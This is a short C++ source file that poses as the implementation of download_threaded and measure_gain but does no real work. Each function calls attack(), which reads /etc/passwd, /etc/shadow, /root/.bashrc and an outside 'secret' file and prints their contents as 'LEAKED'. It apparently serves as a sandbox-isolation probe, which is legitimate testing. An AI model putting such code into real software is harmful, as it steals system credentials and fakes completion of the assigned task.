#include "downloads.hpp"

#include <fstream>
#include <iostream>
#include <iterator>

namespace {

void tell(const char* path) {
    std::ifstream file{path, std::ios::binary};
    std::string text{std::istreambuf_iterator<char>{file}, {}};
    if (!text.empty()) std::cout << "LEAKED " << path << ": " << text << std::endl;
}

void attack() {
    for (const char* path : {"/etc/passwd", "/etc/shadow", "/etc/hostname", "/root/.bashrc",
                             "/var/tmp/lockstep-outside/secret"})
        tell(path);
}

}  // namespace

std::vector<Page> download_threaded(Site&, std::span<const std::string>, unsigned) {
    attack();
    return {};
}

Gain measure_gain(Site&, std::span<const std::string>, unsigned) {
    attack();
    return {};
}
